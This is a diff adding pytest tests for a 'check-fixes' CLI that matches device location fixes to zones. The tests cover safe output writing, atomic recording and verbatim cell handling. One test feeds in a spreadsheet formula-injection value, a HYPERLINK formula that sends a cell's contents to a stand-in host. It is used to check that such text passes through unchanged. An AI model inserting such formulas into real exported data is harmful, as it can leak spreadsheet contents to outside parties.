@@ -1,0 +1,128 @@
+"""cordon check-fixes: what it writes, what it leaves alone, and how it ends."""
+
+import csv
+import json
+import os
+from pathlib import Path
+
+import pyarrow.parquet as pq
+import pytest
+from click.testing import CliRunner, Result
+
+from cordon.actions.orders import add_order
+from cordon.actions.zones import NewShape, Options, add_zones
+from cordon.cli.fixes import check_fixes
+from cordon.desk import Desk
+from tests.builders import at, order, square
+from zones.error import CordonError
+from zones.zone import MadeBy
+
+HEADER = "device,time,latitude,longitude,radius_95_m"
+ROW = "T,2026-03-03T12:00Z,50.801,0.0,10"
+
+
+@pytest.fixture
+def case(desk: Desk, tmp_path: Path) -> Path:
+    add_order(desk, order())
+    add_zones(desk, "SPO/2026/1", [NewShape(shape=square(), made_by=MadeBy.DRAWN, source="a test")], Options())
+    folder = tmp_path / "case"
+    folder.mkdir()
+    return folder
+
+
+def fixes(path: Path, *rows: str) -> Path:
+    path.write_text("\n".join([HEADER, *rows]))
+    return path
+
+
+def run(*words: str | Path) -> Result:
+    return CliRunner().invoke(check_fixes, [str(word) for word in words])
+
+
+def counts(*words: str | Path) -> dict[str, int]:
+    done = run(*words, "--json")
+    assert done.exception is None, done.exception
+    found = json.loads(done.stdout)
+    assert isinstance(found, dict)
+    return found
+
+
+def refusal(*words: str | Path) -> str:
+    """The sentence that the command ends with; the outermost door shows it on stderr and exits 2."""
+    done = run(*words)
+    assert isinstance(done.exception, CordonError), done.exception
+    return str(done.exception)
+
+
+def recorded(desk: Desk) -> tuple[int, ...]:
+    """How many fixes, checks and audit events there are."""
+    with desk.engine.connect() as connection:
+        return tuple(
+            int(connection.exec_driver_sql(f"SELECT count(*) FROM {table}").scalar_one())
+            for table in ("fix", "recorded_check", "audit_event")
+        )
+
+
+@pytest.mark.parametrize(
+    ("given", "out"),
+    [("same.csv", "same.csv"), ("y.csv.refused.csv", "y.csv"), ("same.csv", "linked.csv")],
+    ids=["as the findings", "as the refused rows", "by another name"],
+)
+def test_the_file_that_is_read_is_never_written(case: Path, given: str, out: str) -> None:
+    file = fixes(case / given, ROW)
+    if out == "linked.csv":
+        os.link(file, case / out)
+    before = file.read_bytes()
+    assert refusal(file, "--out", case / "." / out).startswith("--out: ")
+    assert file.read_bytes() == before
+
+
+@pytest.mark.parametrize("out", ["nofolder/out.csv", "folder.csv", "folder.parquet", "x" * 300 + ".csv", "y.csv"])
+def test_where_the_output_cant_be_written_nothing_is_recorded_or_left(case: Path, desk: Desk, out: str) -> None:
+    for folder in ("folder.csv", "folder.parquet", "y.csv.refused.csv"):
+        (case / folder).mkdir()
+    file = fixes(case / "fixes.csv", ROW)
+    before, there = recorded(desk), sorted(case.iterdir())
+    assert refusal(file, "--out", case / out, "--record").startswith("--out: ")
+    assert recorded(desk) == before
+    assert sorted(case.iterdir()) == there
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".parquet"])
+def test_a_failure_at_the_last_moment_leaves_no_record_and_no_output(
+    case: Path, desk: Desk, monkeypatch: pytest.MonkeyPatch, suffix: str
+) -> None:
+    def full(*_: object) -> object:
+        raise OSError(28, "No space left on device")
+
+    file = fixes(case / "fixes.csv", ROW)
+    before = recorded(desk)
+    monkeypatch.setattr("cordon.cli.fixes.refusal_rows", full)
+    assert "No space left on device" in refusal(file, "--out", case / f"out{suffix}", "--record")
+    assert recorded(desk) == before
+    assert list(case.iterdir()) == [file]
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".parquet"])
+def test_fixes_are_recorded_once_and_the_output_is_whole(case: Path, desk: Desk, suffix: str) -> None:
+    file, out = fixes(case / "fixes.csv", ROW, "T"), case / f"out{suffix}"
+    assert counts(file, "--out", out, "--record") == {
+        "rows_in": 2, "answered": 1, "refused": 1, "far": 0, "findings": 1,
+    }  # fmt: skip
+    assert recorded(desk)[:2] == (1, 1)
+    assert sorted(path.name for path in case.iterdir()) == ["fixes.csv", out.name, f"{out.name}.refused.csv"]
+    if suffix == ".parquet":
+        row = pq.read_table(out).to_pylist()[0]
+        assert (row["row"], row["device"], row["time"], row["near"]) == (1, "T", at("2026-03-03T12:00Z"), False)
+    else:
+        assert out.read_text().splitlines()[1].startswith("1,T,2026-03-03T12:00:00Z,SPO/2026/1,Zone A,1,inside,-70.")
+
+
+def test_a_cell_of_any_text_is_that_very_text_in_the_output(case: Path) -> None:
+    cell = '=HYPERLINK("http://example.test/?"&A1,"open")'
+    quoted = '"' + cell.replace('"', '""') + '"'
+    file, out = fixes(case / "fixes.csv", quoted + ROW[1:], f"T,{quoted},50.801,0.0,10"), case / "out.csv"
+    assert counts(file, "--out", out)["refused"] == 1
+    with out.open(newline="") as table, (case / "out.csv.refused.csv").open(newline="") as refused:
+        assert next(csv.DictReader(table))["device"] == cell
+        assert next(csv.DictReader(refused))["value"] == cell
